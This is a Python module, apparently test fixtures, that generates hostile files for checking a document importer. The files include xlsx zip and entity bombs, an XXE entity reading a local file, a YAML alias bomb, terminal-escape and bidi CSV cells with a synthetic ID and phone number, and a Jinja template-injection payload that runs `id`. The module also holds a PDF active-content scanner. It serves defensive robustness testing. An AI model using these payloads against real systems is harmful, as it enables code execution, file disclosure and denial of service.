    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    _XML_DECLARATION
    + b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    _XML_DECLARATION
    + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    b'Target="worksheets/sheet1.xml"/>%s</Relationships>'
)
_SHARED_STRINGS_REL = (b'<Relationship Id="rId2" '
                       b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
                       b'Target="sharedStrings.xml"/>')
_SHEET_START = _XML_DECLARATION + b'<worksheet xmlns="%s"><sheetData>' % _MAIN_NS
_SHEET_END = b"</sheetData></worksheet>"


def _column(n: int) -> str:
    """Column letters of the 1-based column ``n`` (1 -> A, 27 -> AA), without Excel's XFD cap."""
    letters = ""
    while n:
        n, rest = divmod(n - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _cell(row: int, col: int, value: str, *, ref: bool = True, raw: bool = False) -> bytes:
    """An inline-string cell; ``raw=True`` puts ``value`` in unescaped (entity references, cut XML)."""
    text = value.encode() if raw else escape(value).encode()
    where = b' r="%s%d"' % (_column(col).encode(), row) if ref else b""
    return b'<c%s t="inlineStr"><is><t xml:space="preserve">%s</t></is></c>' % (where, text)


def _row(number: int, values: Sequence[str], *, refs: bool = True) -> bytes:
    cells = b"".join(_cell(number, col, value, ref=refs) for col, value in enumerate(values, 1))
    return b'<row r="%d">%s</row>' % (number, cells)


def _rows(header: Sequence[str], rows: Sequence[Sequence[str]] | None) -> bytes:
    """Header in row 1 and ``rows`` from row 2."""
    return b"".join(_row(n, values) for n, values in enumerate([header, *(rows or [])], 1))


Segments = list[tuple[bytes, int]]


def _write_zip(path: str | os.PathLike, entries: Sequence[tuple[str, bytes | Segments]]) -> Path:
    """A zip of deflated entries written by hand, so that a huge repetitive part costs seconds, not minutes.

    An entry is its bytes, or segments ``(data, repeat)``: each segment is deflated once (level 9, ended
    by a full flush, so its output is byte-aligned and needs nothing that came before) and that output
    is written ``repeat`` times; an empty final block ends the stream. The data is what a streaming
    compressor would produce give or take a few bytes per segment (deflate tops out near 1030:1), about
    20 times faster. Sizes and CRCs are honest; entries of 4 GiB or more get ZIP64 sizes.
    """
    dos_time, dos_date = 0, (2026 - 1980) << 9 | 1 << 5 | 1
    central = []
    with open(path, "wb") as f:
        for name, part in entries:
            segments = [(part, 1)] if isinstance(part, bytes) else [(d, r) for d, r in part if d and r]
            crc = size = 0
            packed = []
            for data, repeat in segments:
                compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
                packed.append((compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH), repeat))
                for _ in range(repeat):
                    crc = zlib.crc32(data, crc)
                size += len(data) * repeat
            packed.append((b"\x03\x00", 1))  # an empty final block (fixed Huffman)
            compressed = sum(len(data) * repeat for data, repeat in packed)
            zip64 = max(size, compressed) >= 0xFFFFFFFF
            extra = struct.pack("<HHQQ", 1, 16, size, compressed) if zip64 else b""
            sizes = (0xFFFFFFFF, 0xFFFFFFFF) if zip64 else (compressed, size)
            common = struct.pack("<HHHHHIIIHH", 45 if zip64 else 20, 0, 8, dos_time, dos_date, crc, *sizes,
                                 len(name), len(extra))
            offset = f.tell()
            f.write(b"PK\x03\x04" + common + name.encode() + extra)
            for data, repeat in packed:
                for _ in range(repeat):
                    f.write(data)
            central.append(b"PK\x01\x02" + struct.pack("<H", 3 << 8 | 45) + common
                           + struct.pack("<HHHII", 0, 0, 0, 0o100644 << 16, offset) + name.encode() + extra)
        directory = f.tell()
        f.write(b"".join(central))
        f.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(central), len(central),
                                              f.tell() - directory, directory, 0))
    return Path(path)


def _write_xlsx(path: str | os.PathLike, sheet: bytes | Segments,
                shared_strings: bytes | Segments | None = None) -> Path:
    """A minimal workbook: content types, relationships, workbook, sheet1 and optional shared strings.

    ``sheet`` and ``shared_strings`` are the parts' bytes, or segments (see ``_write_zip``).
    """
    has_strings = shared_strings is not None
    entries: list[tuple[str, bytes | Segments]] = [
        ("[Content_Types].xml", _CONTENT_TYPES % (_SHARED_STRINGS_TYPE if has_strings else b"")),
        ("_rels/.rels", _ROOT_RELS),
        ("xl/workbook.xml", _WORKBOOK),
        ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS % (_SHARED_STRINGS_REL if has_strings else b"")),
        ("xl/worksheets/sheet1.xml", sheet),
    ]
    if shared_strings is not None:
        entries.append(("xl/sharedStrings.xml", shared_strings))
    return _write_zip(path, entries)


def _repeat(unit: bytes, count: int) -> Segments:
    """``unit`` repeated ``count`` times, as segments of about 4 MiB."""
    per_segment = max(1, (4 << 20) // len(unit))
    full, rest = divmod(count, per_segment)
    return [(unit * per_segment, full), (unit * rest, 1)]


def _sheet_with_extra_row(header: Sequence[str], rows: Sequence[Sequence[str]] | None, column: int,
                          special: bytes, *, prolog: bytes = b"") -> bytes:
    """Header, ``rows``, then one more row: ``rows[-1]`` (or empty cells) with ``special`` at ``column``."""
    rows = list(rows or [])
    number = len(rows) + 2
    values = list(rows[-1]) if rows else []
    values += [""] * (max(len(header), column + 1) - len(values))
    cells = [special if col == column else _cell(number, col + 1, value) for col, value in enumerate(values)]
    extra = b'<row r="%d">%s</row>' % (number, b"".join(cells))
    start = _SHEET_START if not prolog else _XML_DECLARATION + prolog + _SHEET_START[len(_XML_DECLARATION):]
    return start + _rows(header, rows) + extra + _SHEET_END


def xlsx_huge_shared_string(path: str | os.PathLike, header: Sequence[str], rows: Sequence[Sequence[str]] | None = None,
                            *, gib: float = 2, column: int = 0) -> Path:
    """A workbook whose sharedStrings.xml holds one string of ``gib`` GiB of "A", referenced by a cell.

    The header is row 1, ``rows`` follow, and one more row (a copy of the last data row, or empty cells)
    has ``column`` pointing at shared string 0. 2 GiB deflate to 2.1 MB (generated in under a second).
    A naive reader: openpyxl reads the whole string table when the workbook is opened
    (``load_workbook``, read-only mode included), before any row is looked at, and builds the string in
    memory more than once: ``MemoryError`` after 5 s under a 1 GiB limit; without one, 16 s and 4.2 GB.
    """
    special = b'<c r="%s%d" t="s"><v>0</v></c>' % (_column(column + 1).encode(), len(rows or []) + 2)
    size = int(gib * (1 << 30))
    strings = [(_XML_DECLARATION + b'<sst xmlns="%s" count="1" uniqueCount="1"><si><t>' % _MAIN_NS, 1),
               *_repeat(b"A", size), (b"</t></si></sst>", 1)]
    return _write_xlsx(path, _sheet_with_extra_row(header, rows, column, special), strings)


def xlsx_many_shared_strings(path: str | os.PathLike, header: Sequence[str],
                             rows: Sequence[Sequence[str]] | None = None,
                             *, count: int = 20_000_000, column: int = 0) -> Path:
    """A workbook whose sharedStrings.xml has ``count`` tiny ``<si><t>xx</t></si>`` entries.

    20 million entries are 360 MB of XML in 0.9 MB of zip; one extra row's ``column`` cell refers to the
    last entry. Two-character strings are not shared by CPython (one-character ones would be), so each
    entry costs a new ``str`` plus a list slot. A naive reader: ``openpyxl.load_workbook`` (read-only or
    not) builds the whole table first: ``MemoryError`` after about 70 s under a 1 GiB limit; without one,
    200 s and 3.1 GB for 20 million.
    """
    special = b'<c r="%s%d" t="s"><v>%d</v></c>' % (_column(column + 1).encode(), len(rows or []) + 2, count - 1)
    start = _XML_DECLARATION + b'<sst xmlns="%s" count="%d" uniqueCount="%d">' % (_MAIN_NS, count, count)
    strings = [(start, 1), *_repeat(b"<si><t>xx</t></si>", count), (b"</sst>", 1)]
    return _write_xlsx(path, _sheet_with_extra_row(header, rows, column, special), strings)


def xlsx_far_row(path: str | os.PathLike, header: Sequence[str], rows: Sequence[Sequence[str]] | None = None,
                 *, row_number: int = 100_000_000) -> Path:
    """A workbook with the header in row 1 and one data row at ``<row r="100000000">`` (2 KB).

    The data row is ``rows[0]`` or one cell "far". Excel stops at row 1,048,576; openpyxl takes any
    number. A naive reader: ``ws.max_row`` is 100,000,000 at once; read-only ``ws.iter_rows()`` (and
    ``ws.values``) yields every empty row in between (100 million tuples, 17 s, little memory); after a
    normal ``load_workbook`` (fast) ``list(ws.values)`` or ``ws.iter_rows()`` creates a cell for every
    coordinate up to the far row: ``MemoryError`` after 18 s under a 1 GiB limit.
    """
    values = list(rows[0]) if rows else ["far"]
    sheet = _SHEET_START + _row(1, header) + _row(row_number, values) + _SHEET_END
    return _write_xlsx(path, sheet)


def xlsx_many_columns(path: str | os.PathLike, header: Sequence[str], rows: Sequence[Sequence[str]] | None = None,
                      *, columns: int = 100_000) -> Path:
    """A workbook whose header row has ``header`` followed by unknown columns "extra_1" ... up to ``columns``.

    The cells carry no ``r`` reference (optional in the format), because openpyxl cannot name a column
    past ZZZ (18,278) and Excel stops at XFD (16,384). ``rows`` follow the header (their own cells only).
    0.27 MB for 100,000 columns. A naive reader: openpyxl reads it without complaint (numbering the cells
    itself): ``ws.max_column`` is 100,000, read-only ``iter_rows()`` pads every row to a 100,000-item tuple
    (2.8 s, 160 MB for three rows); building a dict per row, or reporting "unknown column" once per
    column, multiplies that.
    """
    extra = [f"extra_{n}" for n in range(1, columns - len(header) + 1)]
    body = _row(1, [*header, *extra], refs=False)
    body += b"".join(_row(n, values, refs=False) for n, values in enumerate(rows or [], 2))
    return _write_xlsx(path, _SHEET_START + body + _SHEET_END)


def xlsx_truncated(path: str | os.PathLike, header: Sequence[str], rows: Sequence[Sequence[str]] | None = None) -> Path:
    """A valid zip whose sheet1.xml stops in the middle of the fifth data row (the XML is not well formed).

    Row 1 is the header, rows 2-5 are four complete data rows (``rows[:4]``; pass five rows with
    distinct case IDs, fewer are cycled; without ``rows``, generated "r2c1" ... values), and row 6 is cut
    inside its second cell's start tag (``<c r="B6" t="inli``); nothing follows.
    The sheet starts with ``<dimension ref="A1:..6"/>`` as Excel writes it. A naive reader:
    ``openpyxl.load_workbook`` raises ``xml.etree.ElementTree.ParseError`` ("unclosed token"); read-only
    mode yields the header and the four good rows from ``iter_rows()`` and raises the ParseError only
    when asked for the next one, so a loop that writes as it reads has already acted on four rows of a
    file it should have refused.
    """
    if rows:
        good = [list(rows[i % len(rows)]) for i in range(5)]
    else:
        good = [[f"r{r}c{c}" for c in range(1, len(header) + 1)] for r in range(2, 7)]
    width = max(len(header), *(len(row) for row in good))
    dimension = b'<dimension ref="A1:%s6"/>' % _column(width).encode()  # as Excel writes; read-only mode trusts it
    sheet = _SHEET_START.replace(b"<sheetData>", dimension + b"<sheetData>") + _rows(header, good[:4])
    first = _cell(6, 1, good[4][0])
    second = _cell(6, 2, good[4][1] if len(good[4]) > 1 else "cut here")
    sheet += b'<row r="6">' + first + second[:second.index(b' t="inlineStr"') + 8]  # ends '<c r="B6" t="inli'
    return _write_xlsx(path, sheet)


def _laughs(levels: int, fanout: int) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        entities.append(b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * fanout))
    return b"".join(entities)


def xlsx_billion_laughs(path: str | os.PathLike, header: Sequence[str], rows: Sequence[Sequence[str]] | None = None,
                        *, part: str = "sheet", levels: int = 9, fanout: int = 10, column: int = 0) -> Path:
    """A workbook whose sheet1.xml (``part="sheet"``) or sharedStrings.xml (``part="sharedStrings"``)
    declares nested entities ``lol0`` ... ``lol9`` in a DOCTYPE, each ten of the one before: ``&lol9;`` is
    3 GB of "lol". One extra row's ``column`` cell holds ``&lol9;`` (inline, or as shared string 0). 2 KB.

    A naive reader: openpyxl parses with the standard library's expat (defusedxml is not installed), and
    expat >= 2.4 has an amplification guard: ``load_workbook`` (read-only too) raises
    ``xml.etree.ElementTree.ParseError`` ("limit on input amplification factor (from DTD and entities)
    breached") in 0.4 s. lxml 6, even with ``huge_tree=True, resolve_entities=True``, raises
    ``XMLSyntaxError`` ("Maximum entity amplification factor exceeded"). An older expat or libxml2
    expands it until memory runs out.
    """
    doctype = b"<!DOCTYPE lolz [%s]>\n" % _laughs(levels, fanout)
    bomb = b"&lol%d;" % levels
    number = len(rows or []) + 2
    if part == "sheet":
        special = _cell(number, column + 1, bomb.decode(), raw=True)
        return _write_xlsx(path, _sheet_with_extra_row(header, rows, column, special, prolog=doctype))
    if part != "sharedStrings":
        raise ValueError(f"part must be 'sheet' or 'sharedStrings', not {part!r}")
    special = b'<c r="%s%d" t="s"><v>0</v></c>' % (_column(column + 1).encode(), number)
    strings = (_XML_DECLARATION + doctype + b'<sst xmlns="%s" count="1" uniqueCount="1"><si><t>%s</t></si></sst>' % (
        _MAIN_NS, bomb))
    return _write_xlsx(path, _sheet_with_extra_row(header, rows, column, special), strings)


def xlsx_xxe(path: str | os.PathLike, header: Sequence[str], target_file: str | os.PathLike,
             rows: Sequence[Sequence[str]] | None = None, *, part: str = "sheet", column: int = 0) -> Path:
    """A workbook whose XML declares an external entity ``xxe`` (``file://`` + ``target_file``) and uses it.

    One extra row's ``column`` cell holds ``&xxe;`` (inline in sheet1.xml, or in sharedStrings.xml with
    ``part="sharedStrings"``). If the target file's text shows up in a packet or a message, the reader
    resolved it. A naive reader: the standard library's expat, which openpyxl uses, does not load
    external entities: ``load_workbook`` raises ``xml.etree.ElementTree.ParseError`` ("undefined entity
    &xxe;"); lxml 6's default parser raises ``XMLSyntaxError`` ("Entity 'xxe' not defined"); but
    ``lxml.etree.XMLParser(resolve_entities=True)`` (lxml's default before 5.0) pastes the file in.
    """
    uri = Path(target_file).resolve().as_uri().encode()
    entity = b'[<!ENTITY xxe SYSTEM "%s">]>\n' % uri
    doctype = b"<!DOCTYPE worksheet " + entity
    number = len(rows or []) + 2
    if part == "sheet":
        special = _cell(number, column + 1, "&xxe;", raw=True)
        return _write_xlsx(path, _sheet_with_extra_row(header, rows, column, special, prolog=doctype))
    if part != "sharedStrings":
        raise ValueError(f"part must be 'sheet' or 'sharedStrings', not {part!r}")
    special = b'<c r="%s%d" t="s"><v>0</v></c>' % (_column(column + 1).encode(), number)
    strings = (_XML_DECLARATION + b"<!DOCTYPE sst " + entity
               + b'<sst xmlns="%s" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>' % _MAIN_NS)
    return _write_xlsx(path, _sheet_with_extra_row(header, rows, column, special), strings)


def xlsx_zip_bomb_ratio(path: str | os.PathLike, header: Sequence[str], rows: Sequence[Sequence[str]] | None = None,
                        *, gib: float = 2, filler: str = "rows") -> Path:
    """A workbook whose sheet1.xml is ``gib`` GiB uncompressed but a few MB zipped.

    After the header and ``rows``, the sheet is filled with ``filler``: ``"rows"`` (empty ``<row/>``
    elements, 358 million per 2 GiB; deflate gets 690:1 on a 6-byte period, so 3.1 MB) or
    ``"whitespace"`` (spaces, 1030:1, so 2.1 MB; ElementTree keeps them as one giant ``.tail`` string).
    Generated in about a second. From 4 GiB the entry gets ZIP64 sizes (4.5 GiB of whitespace: 4.7 MB).
    The recorded sizes are honest, so checking ``ZipInfo.file_size`` (or its ratio to ``compress_size``)
    before reading catches it; ``zipfile``'s own ``testzip()`` inflates it all (7 s for 4.5 GiB).
    A naive reader, under a 1 GiB limit: ``"rows"``: read-only ``iter_rows()`` ends in ``MemoryError``
    after 16 s (every empty ``<row/>`` stays attached to ``<sheetData>`` in the parse tree), a normal
    ``load_workbook`` after 37 s; ``"whitespace"``: ``load_workbook`` (read-only too) after 7 s.
    """
    if filler not in ("rows", "whitespace"):
        raise ValueError(f"filler must be 'rows' or 'whitespace', not {filler!r}")
    unit = b"<row/>" if filler == "rows" else b" "
    sheet = [(_SHEET_START + _rows(header, rows), 1), *_repeat(unit, int(gib * (1 << 30)) // len(unit)),
             (_SHEET_END, 1)]
    return _write_xlsx(path, sheet)


# --------------------------------------------------------------------------------------------------
# YAML and special files
# --------------------------------------------------------------------------------------------------


def yaml_alias_bomb(path: str | os.PathLike, levels: int = 9, fanout: int = 9) -> Path:
    """An organisation profile (top-level keys exactly ``name``, ``address``, ``phone``) that is a YAML
    "billion laughs": anchors ``&a`` ... nested ``levels`` deep, each a list of ``fanout`` aliases of the one
    before, so ``&i`` stands for 9**9 = 387 million "lol" strings. Under 1 KB.

    ``name`` is a list whose last item is the whole bomb; ``address`` and ``phone`` are aliases of it.
    A naive reader: ``yaml.safe_load`` returns in milliseconds (aliases become shared Python objects),
    and ``isinstance(data["name"], str)`` rejects it at once; but anything that walks or prints the value
    (``str(data["name"])``, an f-string, ``json.dumps``, a schema validator that recurses into lists)
    expands all 387 million items: ``MemoryError`` after 16-18 s under a 1 GiB limit.
    """
    names = [chr(ord("a") + n) for n in range(levels)]
    lines = ["# organisation profile", "name:"]
    lines.append(f"  - &{names[0]} [{', '.join(['lol'] * fanout)}]")
    for previous, name in zip(names, names[1:], strict=False):
        lines.append(f"  - &{name} [{', '.join(['*' + previous] * fanout)}]")
    lines += [f"address: *{names[-1]}", f"phone: *{names[-1]}", ""]
    Path(path).write_text("\n".join(lines), encoding="utf-8")
    return Path(path)


def fifo(path: str | os.PathLike) -> Path:
    """A named pipe (``os.mkfifo``) with no writer, e.g. given as the organisation logo or an evidence file.

    ``exists()`` is True, ``is_file()`` False, ``stat().st_size`` 0. A naive reader: ``open(path, "rb")``
    blocks forever waiting for a writer, and so do ``Path.read_bytes()``, ``PIL.Image.open(path)`` (both
    still blocked when killed after 10 s) and ``shutil.copy``; only a ``stat.S_ISREG`` check first (or an
    ``O_NONBLOCK`` open) avoids the hang.
    """
    os.mkfifo(path, 0o600)
    return Path(path)


# --------------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------------


def with_check_digit(first17: str) -> str:
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return first17 + "10X98765432"[sum(int(d) * w for d, w in zip(first17, weights, strict=True)) % 11]


#: The resident ID number (valid check digit) and phone number hidden in ``csv_escape_sequences``'s free text.
PII_ID_NUMBER = with_check_digit("33010619900307123")
PII_PHONE = "13912345678"
#: How the README says they must appear outside the documents.
PII_ID_MASKED = PII_ID_NUMBER[:6] + "*" * 8 + PII_ID_NUMBER[-4:]
PII_PHONE_MASKED = PII_PHONE[:3] + "****" + PII_PHONE[-4:]
#: A sentence with both numbers in the middle of it.
PII_SENTENCE = f"借款人身份证号{PII_ID_NUMBER}，联系电话{PII_PHONE}，请勿外传。"

#: Terminal escapes and invisible characters planted by ``csv_escape_sequences``, by name.
ESCAPE_PAYLOADS = {
    "osc_title": "\x1b]0;pwned\x07",
    "clear_screen": "\x1b[2J\x1b[H",
    "colour": "\x1b[31mRED\x1b[0m",
    "nul": "\x00",
    "bidi_override": "invoice\u202egpj.exe",
}


def csv_escape_sequences(path: str | os.PathLike, header: Sequence[str], base: dict[str, str] | None = None, *,
                         case_id_column: str | None = None, text_columns: Sequence[str] = (),
                         free_text_column: str | None = None) -> Path:
    """A UTF-8 CSV whose cells carry terminal escape sequences, NUL, a bidi override, and a free-text cell
    with a resident ID number and a phone number in the middle of a sentence.

    ``base`` gives every column's value for an otherwise valid row (missing columns are empty).
    ``case_id_column`` defaults to ``header[0]``, ``free_text_column`` to ``header[-1]``. For each payload in
    ``ESCAPE_PAYLOADS`` there are two rows: ``ESC-<n>`` with the payload inside every ``text_columns`` cell
    and in the free text, and one whose case ID is ``BAD-<n>`` + payload. A last row ``PII-001`` has
    ``PII_SENTENCE`` as its free text. A naive reader: ``csv.reader`` returns the cells untouched (NUL
    included, Python >= 3.11); printing one to a terminal retitles the window (OSC 0), clears the screen,
    colours the output, and U+202E makes "invoice<U+202E>gpj.exe" display as "invoiceexe.jpg"; writing the
    free text to a log or report leaks ``PII_ID_NUMBER`` and ``PII_PHONE`` unmasked.
    """
    base = dict(base or {})
    case_id_column = case_id_column or header[0]
    free_text_column = free_text_column or header[-1]
    lines: list[dict[str, str]] = []
    for n, payload in enumerate(ESCAPE_PAYLOADS.values(), 1):
        clean = dict(base)
        clean[case_id_column] = f"ESC-{n:03d}"
        for column in {*text_columns, free_text_column}:
            clean[column] = f"正常的说明文字{payload}后面还有"
        lines.append(clean)
        bad = dict(base)
        bad[case_id_column] = f"BAD-{n:03d}{payload}"
        lines.append(bad)
    pii = dict(base)
    pii[case_id_column] = "PII-001"
    pii[free_text_column] = PII_SENTENCE
    lines.append(pii)
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(header)
        for line in lines:
            writer.writerow([line.get(column, "") for column in header])
    return Path(path)


# --------------------------------------------------------------------------------------------------
# Word templates
# --------------------------------------------------------------------------------------------------

#: Server-side template injection: finds subprocess.Popen through object.__subclasses__() and runs `id`.
JINJA_PAYLOAD = ("{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
                 "{{ c(['id'], stdout=-1).communicate()[0] }}{% endif %}{% endfor %}")


def docx_with_jinja_payload(path: str | os.PathLike, payload: str = JINJA_PAYLOAD) -> Path:
    """A minimal .docx whose one body paragraph is ``payload`` as a single run (so Jinja sees it whole).

    The default payload walks ``object.__subclasses__()`` to ``subprocess.Popen`` and runs ``id``. A naive
    reader: ``docxtpl.DocxTemplate(path).render({})`` (plain Jinja environment) writes the output of
    ``id`` into the document (``b'uid=0(root) gid=0(root) ...'``) whenever ``subprocess`` has been imported
    in the process (by anything), and renders an empty paragraph otherwise; with
    ``jinja2.sandbox.SandboxedEnvironment`` it raises ``jinja2.exceptions.SecurityError`` ("access to
    attribute '__class__' of 'str' object is unsafe").
    """
    from docx import Document

    document = Document()
    document.add_paragraph().add_run(payload)
    document.save(str(path))
    return Path(path)


def docx_with_external_image(path: str | os.PathLike, url: str) -> Path:
    """A .docx whose body holds a picture stored as an external link (Word's "Link to File").

    The relationship has ``TargetMode="External"`` and target ``url``; the drawing's ``<a:blip r:link=...>``
    names it and there is no embedded image part. A paragraph "See the linked scan below." comes first.
    A naive reader: ``soffice --headless --convert-to pdf`` fetches ``url`` while it loads the document
    (one HTTP GET, and the fetched picture is in the PDF; a ``file:`` URL would put a local file there), so
    a template or an uploaded .docx makes the converter reach the network; python-docx does not fetch.
    """
    from docx import Document
    from docx.opc.constants import RELATIONSHIP_TYPE
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls
    from docx.shared import Inches

    document = Document()
    document.add_paragraph("See the linked scan below.")
    rid = document.part.relate_to(url, RELATIONSHIP_TYPE.IMAGE, is_external=True)
    cx = cy = Inches(2)
    drawing = parse_xml(
        f'<w:drawing {nsdecls("w", "wp", "a", "pic", "r")}><wp:inline distT="0" distB="0" distL="0" distR="0">'
        f'<wp:extent cx="{cx}" cy="{cy}"/><wp:docPr id="1" name="Linked picture"/>'
        '<wp:cNvGraphicFramePr><a:graphicFrameLocks noChangeAspect="1"/></wp:cNvGraphicFramePr>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="0" name="x.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        f'<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="{cx}" cy="{cy}"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
    )
    document.add_paragraph().add_run()._r.append(drawing)
    document.save(str(path))
    return Path(path)


# --------------------------------------------------------------------------------------------------
# Inspector
# --------------------------------------------------------------------------------------------------

#: Action types (``/S``) that run code, open or fetch something, or send data.
ACTIVE_ACTIONS = frozenset({
    "/JavaScript", "/Launch", "/URI", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData", "/RichMediaExecute",
    "/Rendition", "/Movie", "/Sound",
})
#: Annotation subtypes that carry a file or a player.
ACTIVE_ANNOTATIONS = frozenset({"/FileAttachment", "/RichMedia", "/Movie", "/Sound", "/Screen"})
_ACTIVE_KEYS = ("/JS", "/AA", "/JavaScript", "/EmbeddedFiles", "/XFA", "/RichMediaContent")
_OBJ_HEADER = re.compile(rb"(?<![0-9])([0-9]{1,10})[ \t\r\n\f\x00]+([0-9]{1,5})[ \t\r\n\f\x00]+obj\b")


def active_content(pdf: str | os.PathLike | bytes) -> list[str]:
    """Every piece of active content in a PDF, one description each; ``[]`` for a clean PDF.

    Each description reads ``"<kind>: <where>"``. Kinds: ``/JS`` (script code), ``/S /<type>`` (an action
    of a type in ``ACTIVE_ACTIONS``), ``/OpenAction`` (when it is an action, not a destination), ``/AA``
    (additional actions), ``/JavaScript`` and ``/EmbeddedFiles`` (name trees), ``/EmbeddedFile`` (an
    embedded file stream), ``/EF`` (a file specification with embedded files), ``/Subtype /<type>`` (an
    annotation in ``ACTIVE_ANNOTATIONS``), ``/XFA``, ``/RichMediaContent``; and ``encrypted`` (needs a
    password, not inspected; an empty user password is tried first), ``unreadable`` (pypdf could not
    parse the file, or an object the cross-reference table lists).
    ``<where>`` is the object (``obj 12``, ``trailer``) and the path of keys inside it.

    Every object is visited, not only those reachable from the catalog: every entry of the
    cross-reference table(s), every object in every object stream (also superseded ones), and every
    ``N G obj`` in the raw bytes that is not the copy the xref points at (older revisions left by
    incremental saves, orphans). Those extra copies are labelled as such.
    """
    from pypdf import PdfReader
    from pypdf.generic import IndirectObject

    data = bytes(pdf) if isinstance(pdf, bytes | bytearray) else Path(pdf).read_bytes()
    try:
        reader = PdfReader(io.BytesIO(data), strict=False)
    except Exception as error:  # anything pypdf raises means "could not inspect"
        return [f"unreadable: whole file ({type(error).__name__}: {error})"]
    if reader.is_encrypted:
        try:
            decrypted = reader.decrypt("")
        except Exception:
            decrypted = 0
        if not decrypted:
            return ["encrypted: needs a password, not inspected"]
    found: list[str] = []
    _walk(reader.trailer, "trailer", found)
    current_objstm: dict[int, tuple[int, int]] = {
        num: (int(where[0]), int(where[1])) for num, where in getattr(reader, "xref_objStm", {}).items()}
    numbers: set[tuple[int, int]] = {(num, gen) for gen, table in reader.xref.items() for num in table}
    numbers |= {(num, 0) for num in current_objstm}
    object_streams = []
    for num, gen in sorted(numbers):
        where = f"obj {num}" + (f" gen {gen}" if gen else "")
        try:
            obj = reader.get_object(IndirectObject(num, gen, reader))
        except Exception as error:
            found.append(f"unreadable: {where} ({type(error).__name__}: {error})")
            continue
        _walk(obj, where, found)
        if hasattr(obj, "get_data") and obj.get("/Type") == "/ObjStm":
            object_streams.append((num, obj))
    for stream_num, stream in object_streams:
        for num, index, obj in _objects_in_stream(stream, reader):
            if current_objstm.get(num) != (stream_num, index):
                _walk(obj, f"obj {num} (superseded copy in object stream {stream_num})", found)
    current_offsets = {(num, gen): offset for gen, table in reader.xref.items() for num, offset in table.items()}
    for match in _OBJ_HEADER.finditer(data):
        num, gen = int(match[1]), int(match[2])
        if current_offsets.get((num, gen)) == match.start():
            continue
        obj = _read_at(reader, data, match.end())
        if obj is not None:
            _walk(obj, f"obj {num} (copy at byte {match.start()} that the xref does not point at)", found)
    return found


def active_content_kinds(found: Iterable[str]) -> set[str]:
    """The kinds (the part before ``":"``) of ``active_content``'s descriptions."""
    return {description.split(":", 1)[0] for description in found}


def _objects_in_stream(stream, reader) -> Iterator[tuple[int, int, object]]:
    """(number, index, object) for each object inside an object stream; unparsable ones are skipped."""
    from pypdf.generic import read_object

    try:
        data = stream.get_data()
        first = int(stream["/First"])
        header = data[:first].split()
        pairs = [(int(header[i]), int(header[i + 1])) for i in range(0, len(header) - 1, 2)]
    except Exception:
        return
    for index, (num, offset) in enumerate(pairs):
        try:
            buffer = io.BytesIO(data)
            buffer.seek(first + offset)
            yield num, index, read_object(buffer, reader)
        except Exception:
            continue


def _read_at(reader, data: bytes, offset: int):
    """The object whose body starts at ``offset`` of the raw file, or None if it does not parse."""
    from pypdf.generic import read_object

    try:
        buffer = io.BytesIO(data)
        buffer.seek(offset)
        while buffer.read(1) in b" \t\r\n\f\x00":
            if buffer.tell() >= len(data):
                return None
        buffer.seek(-1, io.SEEK_CUR)
        return read_object(buffer, reader)
    except Exception:
        return None


def _resolve(value):
    """``value`` with one indirect reference followed; None if that fails."""
    try:
        return value.get_object() if hasattr(value, "get_object") else value
    except Exception:
        return None


def _walk(root, where: str, found: list[str]) -> None:
    """Append findings in the direct structure of ``root`` (indirect references are not followed: every
    indirect object is walked on its own)."""
    from pypdf.generic import ArrayObject, DictionaryObject

    stack = [(root, "")]
    while stack:
        value, path = stack.pop()
        if isinstance(value, ArrayObject):
            stack.extend((item, f"{path}[{i}]") for i, item in reversed(list(enumerate(value))))
            continue
        if not isinstance(value, DictionaryObject):
            continue
        place = f"{where}{path}" if path else where

        def hit(kind: str, place: str = place) -> None:
            found.append(f"{kind}: {place}")

        kind = _resolve(value.get("/S"))
        if isinstance(kind, str) and kind in ACTIVE_ACTIONS:
            hit(f"/S {kind}")
        subtype = _resolve(value.get("/Subtype"))
        if isinstance(subtype, str) and subtype in ACTIVE_ANNOTATIONS and "/Rect" in value:
            hit(f"/Subtype {subtype}")
        if _resolve(value.get("/Type")) == "/EmbeddedFile":
            hit("/EmbeddedFile")
        for key in _ACTIVE_KEYS:
            if key in value:
                hit(key, f"{place} {key}")
        if "/EF" in value:
            hit("/EF", f"{place} /EF")
        if "/OpenAction" in value and isinstance(_resolve(value["/OpenAction"]), DictionaryObject):
            hit("/OpenAction", f"{place} /OpenAction")
